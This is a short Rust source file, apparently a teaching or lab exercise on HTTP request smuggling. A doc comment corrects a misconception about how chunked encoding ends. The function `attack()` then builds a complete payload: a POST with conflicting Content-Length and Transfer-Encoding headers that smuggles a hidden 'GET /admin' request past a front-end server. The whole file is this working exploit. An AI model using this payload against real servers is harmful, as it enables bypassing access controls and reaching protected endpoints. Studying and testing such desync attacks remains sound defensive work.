//! Misconception: the `0` ends the chunks. It begins the last of them, and
//! the empty line ends it.

pub fn attack() -> Vec<u8> {
    let hidden = "GET /admin HTTP/1.1\r\nHost: a\r\n\r\n";
    let body = format!("0\r\n{hidden}");
    let size = body.len();
    format!(
        "POST /ping HTTP/1.1\r\nHost: a\r\nContent-Length: {size}\r\n\
         Transfer-Encoding: chunked\r\n\r\n{body}"
    )
    .into_bytes()
}
